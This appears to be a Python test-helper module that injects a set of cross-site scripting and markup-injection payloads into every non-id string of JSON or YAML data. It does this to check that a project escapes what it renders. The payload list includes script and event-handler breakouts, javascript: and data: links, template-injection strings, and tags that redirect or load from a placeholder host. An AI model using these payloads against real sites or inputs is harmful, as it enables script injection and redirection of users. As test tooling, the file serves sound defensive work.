"""Hostile text for every place where somebody may write: what would run, load, restyle or lead away as markup."""

from __future__ import annotations

import re
from typing import Any
from zlib import crc32

ELSEWHERE = "hostile.invalid"
"""A host that nothing may ever ask for."""
BREAKOUT = "'\"></title></textarea></style></script --><img src=x onerror=ran()>"
"""Ends whatever it may stand in, then runs something."""
PAYLOADS = (
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<!--<script>ran()",
    '"><svg onload=ran()>',
    "\" autofocus onfocus=ran() x='",
    "<details open ontoggle=ran()>",
    "[go](javascript:ran()) ![see](javascript:ran()) <javascript:ran()>",
    "[go](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %>",
    f"<style>@import '//{ELSEWHERE}/y';</style>",
    f'<p style="background:url(//{ELSEWHERE}/x);width:expression(ran())">',
    f'<base href="//{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/">',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    f'<form action="//{ELSEWHERE}/"><button autofocus>Go</button></form>',
    f'<link rel="stylesheet" href="//{ELSEWHERE}/x.css"><object data="//{ELSEWHERE}/x"></object>',
    "\N{LINE SEPARATOR}ran()\N{PARAGRAPH SEPARATOR}ran()//",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e &lt;script&gt;ran()&lt;/script&gt; &#60;script&#62;",
)
_NAME = re.compile(r"[a-z0-9_.:/-]*|[A-Z][A-Z0-9-]*|[A-Z]?-?\d[\d.,: -]*")
"""Ids, kinds, dates and numbers: their shape is checked where they are read, so nobody can write there."""


def hostile(text: str) -> str:
    """Return a text with hostile text behind it, the same for the same text: what refers to it by its words still does.

    What has the shape of an id stays as it is.
    """
    if _NAME.fullmatch(text):
        return text
    return f"{text} {BREAKOUT} {PAYLOADS[crc32(text.encode()) % len(PAYLOADS)]}"


def poisoned(value: Any, keep: frozenset[str] = frozenset()) -> Any:
    """Return data with hostile text in every text that is no id.

    Parameters
    ----------
    value
        Data as JSON or YAML gives it.
    keep
        Keys whose values stay as they are.
    """
    if isinstance(value, str):
        return hostile(value)
    if isinstance(value, list):
        return [poisoned(one, keep) for one in value]
    if isinstance(value, dict):
        return {key: one if key in keep else poisoned(one, keep) for key, one in value.items()}
    return value
